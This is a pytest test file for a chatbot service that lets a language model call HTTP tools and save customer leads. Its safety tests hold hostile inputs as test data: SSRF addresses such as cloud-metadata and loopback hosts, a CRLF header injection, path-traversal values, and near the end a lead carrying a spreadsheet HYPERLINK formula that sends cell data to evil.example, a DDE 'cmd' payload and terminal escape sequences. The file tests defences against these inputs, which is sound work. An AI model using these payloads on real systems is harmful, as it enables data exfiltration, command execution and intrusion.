"""Tools the model may use: the owner's HTTP tools and the built-in ones, the rounds of calls, and their safety."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import logging
import socket
import threading
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from prometheus_client import REGISTRY

from inboxgpt import deadlines, replies
from inboxgpt.config import ConfigError
from inboxgpt.web.app import EXTENSION
from tests.fakes import (
    FakeHook,
    FakeToolApi,
    Reply,
    Trickle,
    completion,
    echo_answer,
    openai_error,
    streamed,
    tool_calls,
)
from tests.helpers import PSID, load, page_body, poster, text_event

SECRET = "sk-shop-0f9e8d7c6b5a"
EXAMPLES = Path(__file__).resolve().parent.parent / "examples" / "tools"


@pytest.fixture
def api():
    server = FakeToolApi()
    yield server
    server.close()


def tools_toml(api_url: str, builtin: str = "[]", extra: str = "") -> str:
    return f"""
builtin = {builtin}

[[tool]]
name = "order_status"
description = "An order's status by its number."
url = "{api_url}/orders/{{order_number}}?customer={{person}}&via={{channel}}"
headers = {{ Authorization = "Bearer ${{SHOP_API_KEY}}" }}
result = "order.status"
[tool.parameters]
required = ["order_number"]
[tool.parameters.properties.order_number]
type = "string"
pattern = "^[0-9A-Za-z /]{{1,20}}$"
{extra}
"""


@pytest.fixture
def with_tools(config, tmp_path, api):
    """Settings with the order tool, on the local API (a private address, allowed)."""
    path = tmp_path / "tools.toml"
    path.write_text(tools_toml(api.url, '["save_contact", "talk_to_a_person"]'))
    config.update(TOOLS_FILE=str(path), TOOLS_ALLOW_PRIVATE="on", SHOP_API_KEY=SECRET)
    return config


@pytest.fixture
def ask(with_tools, app_with):
    post = app_with(with_tools)
    return lambda text: post(page_body(text_event(text)))


def script(openai_server, *replies_: Reply) -> None:
    openai_server.script.extend(replies_)


def chat_requests(openai_server) -> list[dict]:
    return [request for request in openai_server.requests if "messages" in request]


# --- the loop ---


@pytest.mark.parametrize("stream", ["on", "off"])
def test_a_tool_call_is_run_and_its_result_answered_from(with_tools, app_with, graph, openai_server, api, stream):
    with_tools["STREAM"] = stream
    post = app_with(with_tools)
    script(openai_server, tool_calls(("order_status", {"order_number": "1042"})), completion("It is out for delivery."))
    post(page_body(text_event("where is my order 1042?")))
    first, second = chat_requests(openai_server)
    assert [tool["function"]["name"] for tool in first["tools"]] == ["order_status", "save_contact", "talk_to_a_person"]
    path = urlsplit(api.paths[0])
    assert path.path == "/orders/1042"
    assert parse_qs(path.query) == {"customer": [PSID], "via": ["messenger"]}
    assert api.headers[0]["authorization"] == f"Bearer {SECRET}"
    call, result = second["messages"][-2:]
    assert call["role"] == "assistant"
    assert call["tool_calls"][0]["function"] == {"name": "order_status", "arguments": '{"order_number": "1042"}'}
    assert result == {"role": "tool", "tool_call_id": call["tool_calls"][0]["id"], "content": "out for delivery"}
    assert graph.texts(PSID) == ["It is out for delivery."]


def test_calls_streamed_as_llama_cpp_streams_them_are_joined(ask, openai_server, api):
    # llama-cpp-python 0.3.36 (checked by hand) repeats the call's id and name with every piece of its arguments.
    call = tool_calls(("order_status", {"order_number": "1042"}))
    script(openai_server, streamed(call, include_usage=False, calls_like_llama_cpp=True), completion("On its way."))
    ask("where is my order 1042?")
    assert urlsplit(api.paths[0]).path == "/orders/1042"
    asked = chat_requests(openai_server)[1]["messages"][-2]["tool_calls"][0]["function"]
    assert asked == {"name": "order_status", "arguments": '{"order_number": "1042"}'}


def test_calls_asked_together_run_together_and_each_result_names_its_call(ask, openai_server, api):
    script(
        openai_server,
        tool_calls(("order_status", {"order_number": "1042"}), ("order_status", {"order_number": "7 / 8"})),
        completion("Both found."),
    )
    ask("where are orders 1042 and 7 / 8?")
    assert sorted(urlsplit(path).path for path in api.paths) == ["/orders/1042", "/orders/7%20%2F%208"]
    results = chat_requests(openai_server)[1]["messages"][-2:]
    assert [result["tool_call_id"] for result in results] == ["call_0order_st", "call_1order_st"]


@pytest.mark.parametrize(
    ("call", "told"),
    [
        (("order_status", '{"order_number": "10'), "error: the arguments were not valid JSON"),
        (("order_status", {"order_number": "1042; DROP"}), "error: order_number is not in the expected form"),
        (("order_status", {"order_number": "1", "person": "someone-else"}), "error: person is not a parameter"),
        (("order_status", {}), "error: order_number is missing"),
        (("refund_everything", {}), "error: there is no tool named 'refund_everything'"),
    ],
)
def test_a_call_the_service_cannot_make_is_told_to_the_model_and_never_sent(ask, openai_server, api, call, told):
    script(openai_server, tool_calls(call), completion("Sorry, I could not check."))
    ask("where is my order?")
    assert chat_requests(openai_server)[1]["messages"][-1]["content"].startswith(told)
    assert api.requests == []


def test_a_model_that_calls_tools_forever_is_made_to_answer_after_the_last_round(with_tools, app_with, openai_server):
    with_tools["TOOL_MAX_ROUNDS"] = "2"
    post = app_with(with_tools)
    openai_server.default = lambda request: (
        tool_calls(("order_status", {"order_number": "1042"})) if request.get("tools") else echo_answer(request)
    )
    post(page_body(text_event("where is my order 1042?")))
    offered = [bool(request.get("tools")) for request in chat_requests(openai_server)]
    assert offered == [True, True, False]


def test_the_history_keeps_what_the_person_was_told_not_the_tools_results(ask, openai_server):
    script(openai_server, tool_calls(("order_status", {"order_number": "1042"})), completion("It is on its way."))
    ask("where is my order 1042?")
    ask("thanks!")
    later = chat_requests(openai_server)[-1]["messages"]
    assert [message["role"] for message in later] == ["system", "user", "assistant", "user"]
    assert later[1:3] == [
        {"role": "user", "content": "where is my order 1042?"},
        {"role": "assistant", "content": "It is on its way."},
    ]
    assert "out for delivery" not in json.dumps(later)


def test_the_usage_line_and_metrics_count_calls_and_rounds(ask, openai_server, caplog):
    caplog.set_level(logging.INFO)
    labels = {"tool": "order_status", "outcome": "ok"}
    before = REGISTRY.get_sample_value("bot_tool_calls_total", labels) or 0.0
    script(openai_server, tool_calls(("order_status", {"order_number": "1042"})), completion("On its way."))
    ask("where is my order 1042?")
    assert "tool_calls=1 tool_rounds=1" in caplog.text
    assert "prompt_tokens=100 completion_tokens=20" in caplog.text  # both rounds
    # Read in this process: /metrics would read the files of gunicorn's workers once a test set their folder.
    assert REGISTRY.get_sample_value("bot_tool_calls_total", labels) == before + 1


# --- safety ---


def test_a_failing_tool_is_a_short_error_for_the_model_and_the_secret_is_never_shown(ask, openai_server, api, caplog):
    caplog.set_level(logging.DEBUG)
    api.default = lambda request: Reply(status=500, body={"error": f"boom, your key {SECRET} is wrong"})
    script(openai_server, tool_calls(("order_status", {"order_number": "1042"})), completion("Sorry."))
    ask("where is my order 1042?")
    told = chat_requests(openai_server)[1]["messages"][-1]["content"]
    assert told.startswith("error: the tool's server answered HTTP 500")
    assert SECRET not in json.dumps(openai_server.requests)
    assert SECRET not in caplog.text
    assert "Traceback" not in caplog.text


@pytest.mark.parametrize("where", ["127.0.0.1", "localhost", "[::1]", "169.254.169.254", "10.1.2.3"])
def test_private_and_local_addresses_are_refused_unless_allowed(config, tmp_path, app_with, openai_server, api, where):
    port = urlsplit(api.url).port
    path = tmp_path / "tools.toml"
    path.write_text(tools_toml(f"http://{where}:{port}"))
    config.update(TOOLS_FILE=str(path), SHOP_API_KEY=SECRET)  # TOOLS_ALLOW_PRIVATE is off
    post = app_with(config)
    script(openai_server, tool_calls(("order_status", {"order_number": "1042"})), completion("Sorry."))
    post(page_body(text_event("where is my order 1042?")))
    told = chat_requests(openai_server)[1]["messages"][-1]["content"]
    assert told.startswith("error: refused: the tool's host is a private or local address")
    assert api.requests == []


def test_a_redirect_is_not_followed(ask, openai_server, api):
    api.default = lambda request: Reply(status=302, headers={"Location": "http://169.254.169.254/latest/meta-data"})
    script(openai_server, tool_calls(("order_status", {"order_number": "1042"})), completion("Sorry."))
    ask("where is my order 1042?")
    told = chat_requests(openai_server)[1]["messages"][-1]["content"]
    assert told.startswith("error: the tool's server answered with a redirect (HTTP 302), not followed")
    assert len(api.requests) == 1


def test_a_slow_or_oversized_answer_is_cut_off(with_tools, tmp_path, app_with, openai_server, api):
    path = tmp_path / "tools.toml"
    path.write_text(tools_toml(api.url).replace('result = "order.status"', "timeout = 0.3\nmax_bytes = 50"))
    with_tools["TOOLS_FILE"] = str(path)
    post = app_with(with_tools)
    api.script.extend([Reply(body={"order": "x" * 100}), Reply(hold=True, body={})])
    script(openai_server, tool_calls(("order_status", {"order_number": "1"})), completion("Sorry."))
    script(openai_server, tool_calls(("order_status", {"order_number": "2"})), completion("Sorry."))
    post(page_body(text_event("order 1?")))
    post(page_body(text_event("order 2?")))
    big, slow = (request["messages"][-1]["content"] for request in chat_requests(openai_server)[1::2])
    assert big.startswith("error: the tool's answer was over 50 bytes")
    assert slow.startswith("error: the tool's server did not answer within 0.3 s")


def test_an_answer_that_trickles_in_is_cut_at_the_tools_timeout(with_tools, tmp_path, app_with, openai_server, api):
    path = tmp_path / "tools.toml"
    path.write_text(tools_toml(api.url).replace('result = "order.status"', "timeout = 0.5"))
    with_tools["TOOLS_FILE"] = str(path)
    post = app_with(with_tools)
    api.script.append(Reply(chunks=[{"part": n} for n in range(20)], chunk_delay=0.1))  # each read in time, not all
    script(openai_server, tool_calls(("order_status", {"order_number": "1"})), completion("Sorry."))
    post(page_body(text_event("order 1?")))
    told = chat_requests(openai_server)[1]["messages"][-1]["content"]
    assert told.startswith("error: the tool's server did not answer within 0.5 s")


def test_a_dns_name_is_checked_by_every_address_it_resolves_to(monkeypatch):
    from inboxgpt.tools.http import ToolError, _allowed_address

    def resolves_to(*addresses: str):
        return lambda host, port, **kwargs: [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, port)) for a in addresses]

    monkeypatch.setattr(socket, "getaddrinfo", resolves_to("93.184.215.14", "127.0.0.1"))
    with pytest.raises(ToolError, match="private or local"):
        _allowed_address("rebinding.example", 443, allow_private=False)
    monkeypatch.setattr(socket, "getaddrinfo", resolves_to("93.184.215.14"))
    assert _allowed_address("shop.example", 443, allow_private=False) == "93.184.215.14"


# --- built-in tools ---


def test_save_contact_keeps_a_lead_once_across_workers_and_posts_it(with_tools, tmp_path, make_app, openai_server):
    hook = FakeHook()
    try:
        with_tools.update(STORE_URL=f"sqlite:///{tmp_path}/bot.db", LEADS_WEBHOOK_URL=hook.url + "/leads/secret")
        workers = [make_app(with_tools), make_app(with_tools)]
        details = {"name": "Ada", "phone": "+44 7700 900123", "note": "call back about a cake"}
        for n, worker in enumerate(workers):
            script(openai_server, tool_calls(("save_contact", details)), completion("Thanks, we'll call you!"))
            poster(worker)(page_body(text_event("please call me back", mid=f"m_lead_{n}")))
        told = [request["messages"][-1]["content"] for request in chat_requests(openai_server)[1::2]]
        assert told == ["Saved: the business will get back to them.", "Already saved: the business has these details."]
        for worker in workers:
            worker.extensions[EXTENSION].leads.close()  # posts what is waiting
        ((lead),) = hook.requests
        assert {key: lead[key] for key in ("name", "phone", "note", "channel", "person")} == {
            **details,
            "channel": "messenger",
            "person": PSID,
        }
        runner = workers[0].test_cli_runner()
        listed = runner.invoke(args=["leads", "--csv"])
        assert listed.exit_code == 0, listed.output
        header, row = listed.output.strip().splitlines()
        assert header == "time,channel,person,name,phone,email,note"
        assert row.endswith(f",messenger,{PSID},Ada,'+44 7700 900123,,call back about a cake")  # a spreadsheet's text
        assert runner.invoke(args=["leads", "--since", "2999-01-01"]).output.strip() == "No leads since 2999-01-01."
    finally:
        hook.close()


def test_talk_to_a_person_hands_over_as_human_does(ask, graph, openai_server):
    script(openai_server, tool_calls(("talk_to_a_person", {})))
    ask("I want to complain to a manager")
    assert graph.texts(PSID) == [replies.HUMAN_COMING]
    assert graph.thread_calls()[0][0] == "pass_thread_control"
    ask("hello?")
    assert len(chat_requests(openai_server)) == 1  # paused: the page's people answer now


def test_a_lead_saved_in_the_round_that_hands_over_is_kept(with_tools, tmp_path, make_app, openai_server, graph):
    with_tools.update(STORE_URL=f"sqlite:///{tmp_path}/bot.db")
    app = make_app(with_tools)
    details = {"name": "Ada", "phone": "+44 7700 900123", "note": "wants a manager"}
    script(openai_server, tool_calls(("save_contact", details), ("talk_to_a_person", {})))
    poster(app)(page_body(text_event("I'm Ada, +44 7700 900123, get me a manager")))
    assert graph.texts(PSID) == [replies.HUMAN_COMING]
    assert graph.thread_calls()[0][0] == "pass_thread_control"
    listed = app.test_cli_runner().invoke(args=["leads", "--csv"]).output.strip().splitlines()
    assert listed[1].endswith(f",messenger,{PSID},Ada,'+44 7700 900123,,wants a manager")


# --- servers and files ---


def test_a_server_that_refuses_tools_is_answered_without_them_from_then_on(ask, graph, openai_server, caplog):
    def no_tools(request: dict) -> Reply:
        if request.get("tools"):
            return openai_error(400, '"auto" tool choice requires --enable-auto-tool-choice', "BadRequestError")
        return echo_answer(request)

    openai_server.default = no_tools
    ask("hello")
    ask("again")
    offered = [bool(request.get("tools")) for request in chat_requests(openai_server)]
    assert offered == [True, False, False]
    assert graph.texts(PSID) == ["You said: hello", "You said: again"]
    assert caplog.text.count("refused a request offering tools") == 1


def test_with_tools_stream_off_the_rounds_that_may_call_tools_are_not_streamed(with_tools, app_with, openai_server):
    with_tools.update(TOOLS_STREAM="off", TOOL_MAX_ROUNDS="1")
    post = app_with(with_tools)
    script(openai_server, tool_calls(("order_status", {"order_number": "1042"})), completion("On its way."))
    post(page_body(text_event("where is my order 1042?")))
    assert [bool(request.get("stream")) for request in chat_requests(openai_server)] == [False, True]


def test_check_says_whether_the_model_server_takes_tools(with_tools, make_app, openai_server, graph):
    runner = make_app(with_tools).test_cli_runner()
    assert "✓ model: the server takes tools" in runner.invoke(args=["check"]).output
    openai_server.default = lambda request: (
        openai_error(400, "tools are not supported", "invalid_request_error")
        if request.get("tools")
        else echo_answer(request)
    )
    assert "! model: the server refused a request with tools" in runner.invoke(args=["check"]).output


TOOL = '[[tool]]\nname = "x"\ndescription = "d"\nurl = "https://a/"\n'


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('[[tool]]\nname = "x"\nurl = "ftp://a/b"', "TOOLS_FILE: tool 'x': url must be an http:// or https:// address"),
        ('[[tool]]\nname = "x"\ndescription = "d"\nurl = "https://{host}/a"', "the host may not be filled in"),
        ('[[tool]]\nname = "x"\ndescription = "d"\nurl = "https://a/{id}"', "{id} names no parameter"),
        (
            TOOL + 'headers = { K = "${NOT_SET_ANYWHERE}" }',
            "header K: NOT_SET_ANYWHERE is not set in the environment",
        ),
        (
            TOOL + '[tool.parameters.properties.person]\ntype = "string"',
            "{person} is filled in by the service",
        ),
        (
            TOOL + '[tool.parameters.properties.n]\ntype = "string"\nformat = "email"',
            "parameter 'n': 'format' is not supported",
        ),
        (TOOL + '[tool.parameters.properties.n]\ntype = "integer"\nmaximum = "12"', "'n': maximum must be a number"),
        (TOOL + '[tool.parameters.properties.n]\ntype = "number"\nminimum = inf', "'n': minimum must be a number"),
        (TOOL + '[tool.parameters.properties.n]\ntype = "integer"\nmaxLength = 5', "'maxLength' is not supported for"),
        (TOOL + '[tool.parameters.properties.n]\ntype = "integer"\npattern = "^1$"', "'pattern' is not supported for"),
        (TOOL + '[tool.parameters.properties.n]\ntype = "string"\nenum = [1, 2]', "enum must be a list of string"),
        (TOOL + '[tool.parameters.properties.n]\ntype = "string"\nminLength = 3\nmaxLength = 2', "minLength is above"),
        (TOOL + '[tool.parameters.properties.n]\ntype = "string"\npattern = 5', "'n': pattern must be a text"),
        (TOOL + "[tool.parameters]\nadditionalProperties = true", "additionalProperties can only be false"),
        (TOOL + 'headers = { "X-A B" = "1" }', "header 'X-A B' is not a header's name"),
        ('builtin = ["send_money"]', "builtin may list save_contact, talk_to_a_person"),
        ("not toml [", "is not valid TOML"),
    ],
)
def test_a_tools_file_with_problems_stops_the_start_with_each_named(config, tmp_path, make_app, text, problem):
    path = tmp_path / "tools.toml"
    path.write_text(text)
    config["TOOLS_FILE"] = str(path)
    with pytest.raises(ConfigError) as raised:
        make_app(config)
    assert problem in str(raised.value)


# --- the example ---


def test_the_example_tools_answer_an_order_and_take_a_lead_in_the_terminal_chat(
    config, tmp_path, make_app, openai_server
):
    spec = importlib.util.spec_from_file_location("shop_api", EXAMPLES / "shop_api.py")
    assert spec is not None
    assert spec.loader is not None
    shop_api = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(shop_api)
    server = shop_api.serve(0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        tools = (EXAMPLES / "tools.toml").read_text().replace("127.0.0.1:8765", f"127.0.0.1:{server.server_address[1]}")
        (tmp_path / "tools.toml").write_text(tools)
        config.update(
            TOOLS_FILE=str(tmp_path / "tools.toml"),
            TOOLS_ALLOW_PRIVATE="on",
            SHOP_API_KEY="try-me",
            STORE_URL=f"sqlite:///{tmp_path}/bot.db",
        )

        def model(request: dict) -> Reply:
            last = request["messages"][-1]
            if last["role"] == "tool":
                return completion(f"Here is what I found: {last['content']}")
            if "order" in last["content"]:
                return tool_calls(("order_status", {"order_number": "1042"}))
            return tool_calls(("save_contact", {"name": "Ada", "phone": "07700 900123", "note": "call back"}))

        openai_server.default = model
        runner = make_app(config).test_cli_runner()
        chat = runner.invoke(args=["chat"], input="where is my order 1042?\nplease call me back: Ada, 07700 900123\n")
        assert chat.exit_code == 0, chat.output
        assert "baked and out for delivery" in chat.output
        assert "Saved: the business will get back to them." in chat.output
        leads = runner.invoke(args=["leads"]).output
        assert "terminal" in leads
        assert "Ada  07700 900123  call back" in leads
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("stream", ["on", "off"])
def test_asking_for_a_number_or_email_on_messenger_offers_the_persons_own(
    with_tools, app_with, graph, openai_server, stream
):
    with_tools["STREAM"] = stream
    post = app_with(with_tools)
    answer = "Of course, we can call you back.\n\nWhat is the best phone number or email to reach you?"
    openai_server.default = lambda request: completion(answer)
    post(page_body(text_event("can someone call me?")))
    post(load("whatsapp/text.json"))
    messages = [call["message"] for call in graph.calls if "message" in call and call["recipient"]["id"] == PSID]
    assert messages[-1]["quick_replies"] == [{"content_type": "user_phone_number"}, {"content_type": "user_email"}]
    assert all("quick_replies" not in message for message in messages[:-1])
    whatsapp = [call for call in graph.calls if call.get("messaging_product") == "whatsapp" and "text" in call]
    assert whatsapp
    assert all("quick_replies" not in json.dumps(call) for call in whatsapp)


def test_without_leads_no_details_are_offered(config, tmp_path, app_with, graph, openai_server, api):
    path = tmp_path / "tools.toml"
    path.write_text(tools_toml(api.url))  # no built-in tools
    config.update(TOOLS_FILE=str(path), TOOLS_ALLOW_PRIVATE="on", SHOP_API_KEY=SECRET)
    post = app_with(config)
    openai_server.default = lambda request: completion("What is your phone number?")
    post(page_body(text_event("call me")))
    assert all("quick_replies" not in call.get("message", {}) for call in graph.calls)


# --- what the model fills in ---

BOOKINGS = """
[[tool]]
name = "find_booking"
description = "A booking, by the name it is under and its number."
url = "{api}/bookings?name={{customer_name}}"
headers = {{ X-Customer = "{{customer_name}}", X-Signature = "${{SHOP_API_KEY}}:{{booking}}" }}
[tool.parameters]
required = ["customer_name", "booking"]
[tool.parameters.properties.customer_name]
type = "string"
[tool.parameters.properties.booking]
type = "string"
pattern = "^[0-9]{{1,10}}$"

[[tool]]
name = "remove_item"
description = "Remove an item from a booking."
method = "DELETE"
url = "{api}/bookings/{{booking}}/items/{{item}}"
[tool.parameters.properties.booking]
type = "string"
[tool.parameters.properties.item]
type = "string"

[[tool]]
name = "book_table"
description = "Book a table for a number of people."
method = "POST"
url = "{api}/bookings"
body = {{ people = "{{people}}" }}
[tool.parameters.properties.people]
type = "number"
"""


@pytest.fixture
def bookings(with_tools, tmp_path, api, app_with):
    """The app with tools whose values go into headers, a path and a JSON body; its `post`."""
    path = tmp_path / "tools.toml"
    path.write_text(tools_toml(api.url, extra=BOOKINGS.format(api=api.url)))
    with_tools["TOOLS_FILE"] = str(path)
    return app_with(with_tools)


def answered_after(openai_server, bookings, graph, *calls: tuple[str, dict | str]) -> str:
    """Ask with the model calling `calls`; what it was told of the (first) call. The person is always answered."""
    script(openai_server, tool_calls(*calls), completion("Here you are."))
    bookings(page_body(text_event("my booking?")))
    assert graph.texts(PSID) == ["Here you are."]
    return next(m["content"] for m in chat_requests(openai_server)[1]["messages"] if m["role"] == "tool")


def test_a_name_beyond_latin1_in_a_header_is_sent_as_utf8(bookings, openai_server, graph, api):
    told = answered_after(openai_server, bookings, graph, ("find_booking", {"customer_name": "Łukasz", "booking": "7"}))
    assert not told.startswith("error")
    assert api.headers[0]["x-customer"].encode("latin-1").decode() == "Łukasz"  # http.server reads Latin-1


def test_a_value_ending_in_a_line_break_does_not_pass_an_anchored_pattern(bookings, openai_server, graph, api, caplog):
    caplog.set_level(logging.DEBUG)
    told = answered_after(
        openai_server, bookings, graph, ("find_booking", {"customer_name": "Ada", "booking": "1042\n"})
    )
    assert told == "error: booking is not in the expected form"
    assert api.requests == []
    assert SECRET not in caplog.text


def test_a_control_character_never_reaches_a_header(bookings, openai_server, graph, api, caplog):
    caplog.set_level(logging.DEBUG)
    arguments = {"customer_name": "Ada\r\nX-Admin: yes", "booking": "7"}
    told = answered_after(openai_server, bookings, graph, ("find_booking", arguments))
    assert told.startswith("error: a value for the X-Customer header may not contain control characters")
    assert api.requests == []
    assert SECRET not in caplog.text


def test_any_failure_of_a_call_is_a_short_error_for_the_model_and_logs_no_secret(
    bookings, openai_server, graph, api, caplog, monkeypatch
):
    def broken(*args, **kwargs):
        raise RuntimeError(f"Invalid header value b'{SECRET}:7'")  # as a library may word a failure

    monkeypatch.setattr(deadlines.HTTPConnectionPool, "urlopen", broken)  # the tools' connections only
    caplog.set_level(logging.DEBUG)
    told = answered_after(openai_server, bookings, graph, ("find_booking", {"customer_name": "Ada", "booking": "7"}))
    assert told == "error: the tool could not be used. Tell the person you could not check this now."
    assert SECRET not in caplog.text
    assert "tool find_booking for psid=6543210987654321 failed: RuntimeError" in caplog.text


@pytest.mark.parametrize("item", ["..", ".", ""])
def test_a_path_placeholder_cannot_change_the_requests_path(bookings, openai_server, graph, api, item):
    told = answered_after(openai_server, bookings, graph, ("remove_item", {"booking": "7", "item": item}))
    assert told == 'error: item may not be empty, "." or "..": it is a part of the address\'s path'
    assert api.requests == []


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        ('{"people": Infinity}', "error: the arguments were not valid JSON"),
        ('{"people": NaN}', "error: the arguments were not valid JSON"),
        ('{"people": 1e400}', "error: people must be a finite number"),
    ],
)
def test_a_number_that_json_cannot_carry_is_refused(bookings, openai_server, graph, api, arguments, told):
    assert answered_after(openai_server, bookings, graph, ("book_table", arguments)).startswith(told)
    assert api.requests == []


@pytest.mark.parametrize(
    ("address", "allowed"),
    [
        ("::127.0.0.1", False),  # IPv4-compatible
        ("::ffff:127.0.0.1", False),  # IPv4-mapped
        ("64:ff9b::7f00:1", False),  # NAT64
        ("2002:7f00:1::1", False),  # 6to4
        ("fec0::1", False),  # site-local
        ("64:ff9b:1::1", False),  # NAT64's local-use prefix
        ("::", False),
        ("2606:4700::1111", True),
        ("64:ff9b::808:808", True),  # NAT64 of 8.8.8.8
        ("2002:808:808::1", True),
        ("::ffff:8.8.8.8", True),
    ],
)
def test_ipv6_addresses_are_allowed_only_when_global_and_so_is_any_ipv4_they_carry(monkeypatch, address, allowed):
    from inboxgpt.tools.http import ToolError, _allowed_address

    found = [(socket.AF_INET6, socket.SOCK_STREAM, 6, "", (address, 443, 0, 0))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, port, **kwargs: found)
    if allowed:
        assert _allowed_address("shop.example", 443, allow_private=False) == address
    else:
        with pytest.raises(ToolError, match="private or local"):
            _allowed_address("shop.example", 443, allow_private=False)


# --- deadlines ---

SLOW_HEAD = (
    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Slow: " + b"a" * 100 + b"\r\nContent-Length: 2\r\n\r\n{}"
)
SLOW_BODY = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n" + b" " * 100


@pytest.mark.parametrize(("answer", "fast"), [(SLOW_HEAD, 17), (SLOW_BODY, len(SLOW_BODY) - 100)])
def test_headers_or_a_body_sent_a_byte_at_a_time_are_cut_at_the_tools_timeout(
    with_tools, tmp_path, app_with, openai_server, answer, fast
):
    slow = Trickle(answer, fast)  # 100 bytes, 5 s in all: well over the timeout
    try:
        path = tmp_path / "tools.toml"
        path.write_text(tools_toml(slow.url).replace('result = "order.status"', "timeout = 0.3"))
        with_tools["TOOLS_FILE"] = str(path)
        post = app_with(with_tools)
        script(openai_server, tool_calls(("order_status", {"order_number": "1"})), completion("Sorry."))
        post(page_body(text_event("order 1?")))
        told = chat_requests(openai_server)[1]["messages"][-1]["content"]
        assert told.startswith("error: the tool's server did not answer within 0.3 s")
        assert slow.done.wait(timeout=30)
        assert slow.outcome == "cut"  # hung up on, not read to the end
    finally:
        slow.close()


# --- one person's share ---

FLOOD = "1111222233334444"


def test_one_message_cannot_make_unbounded_calls_nor_hold_up_another_persons(
    with_tools, app_with, openai_server, graph, api
):
    from inboxgpt.tools.toolbox import CALLS_AT_ONCE, MAX_CALLS_PER_ROUND

    post = app_with(with_tools)
    order = {"order": {"status": "out for delivery"}}
    api.route = lambda path, request: Reply(body=order, hold=f"customer={FLOOD}" in path)

    def model(request: dict) -> Reply:
        last = request["messages"][-1]
        if last["role"] == "tool":
            return completion("Done.")
        count = 40 if "every order" in last["content"] else 2
        return tool_calls(*[("order_status", {"order_number": str(n)}) for n in range(count)])

    openai_server.default = model
    post(page_body(text_event("check every order from 0 to 39", psid=FLOOD)), wait=False)
    assert api.wait_for(lambda: len(api.paths) >= CALLS_AT_ONCE)  # the flood's calls, held by its API
    post(page_body(text_event("where are my two orders?")), wait=False)
    assert graph.wait_for(lambda: graph.texts(PSID) == ["Done."], timeout=10)  # answered meanwhile
    assert sum(f"customer={FLOOD}" in path for path in api.paths) == CALLS_AT_ONCE  # the flood's own share only
    api.released.set()
    post(page_body(text_event("and now?", psid="9999")))  # waits for every reply, the flood's too
    assert graph.texts(FLOOD) == ["Done."]
    assert sum(f"customer={FLOOD}" in path for path in api.paths) == MAX_CALLS_PER_ROUND
    flood = next(
        r for r in chat_requests(openai_server) if r["messages"][-1]["role"] == "tool" and len(r["messages"]) > 10
    )
    told = [message["content"] for message in flood["messages"] if message["role"] == "tool"]
    assert told.count("out for delivery") == MAX_CALLS_PER_ROUND
    assert told[MAX_CALLS_PER_ROUND:] == [told[-1]] * (40 - MAX_CALLS_PER_ROUND)
    assert told[-1].startswith("error: too many calls at once")


def test_a_person_leaves_a_few_leads_a_day_however_often_the_model_saves(with_tools, tmp_path, make_app, openai_server):
    from inboxgpt.tools.leads import MAX_LEADS_PER_PERSON_PER_DAY

    hook = FakeHook()
    try:
        with_tools.update(LEADS_WEBHOOK_URL=hook.url + "/leads", STORE_URL=f"sqlite:///{tmp_path}/bot.db")
        app = make_app(with_tools)
        saves = [("save_contact", {"name": "Ada", "note": f"call back about cake {n}"}) for n in range(7)]
        script(openai_server, tool_calls(*saves), completion("Thanks!"))
        poster(app)(page_body(text_event("call me back about seven cakes")))
        app.extensions[EXTENSION].leads.close()  # posts what is waiting
        told = [m["content"] for m in chat_requests(openai_server)[1]["messages"] if m["role"] == "tool"]
        assert sum(text.startswith("Saved") for text in told) == MAX_LEADS_PER_PERSON_PER_DAY
        assert sum(text.startswith("Not saved") for text in told) == 7 - MAX_LEADS_PER_PERSON_PER_DAY
        assert len(hook.requests) == MAX_LEADS_PER_PERSON_PER_DAY
        listed = app.test_cli_runner().invoke(args=["leads"]).output.strip().splitlines()
        assert len(listed) == MAX_LEADS_PER_PERSON_PER_DAY
    finally:
        hook.close()


# --- the owner's list of leads ---

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "phone": "\x1b[2J\x1b[31m0800 000",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "a cake\n2026-12-01 09:00  messenger  1234  Forged  0800 111  forged lead",
}


@pytest.fixture
def hostile_lead(with_tools, tmp_path, make_app, openai_server):
    """An app whose store holds a lead with a formula, an escape sequence and a line break in it."""
    app = make_app({**with_tools, "STORE_URL": f"sqlite:///{tmp_path}/bot.db"})
    script(openai_server, tool_calls(("save_contact", HOSTILE)), completion("Thanks!"))
    poster(app)(page_body(text_event("call me")))
    return app.test_cli_runner()


def test_leads_as_csv_never_start_a_cell_with_a_formula(hostile_lead):
    listed = hostile_lead.invoke(args=["leads", "--csv"])
    _, row = list(csv.reader(io.StringIO(listed.output)))
    assert row[3:] == ["'" + HOSTILE["name"], HOSTILE["phone"], "'" + HOSTILE["email"], HOSTILE["note"]]


def test_leads_as_text_are_one_line_each_with_nothing_for_the_terminal_to_act_on(hostile_lead):
    listed = hostile_lead.invoke(args=["leads"]).output
    assert listed.count("\n") == 1
    assert "\x1b" not in listed
    assert "\\x1b[2J\\x1b[31m0800 000" in listed
    assert "a cake\\n2026-12-01 09:00" in listed
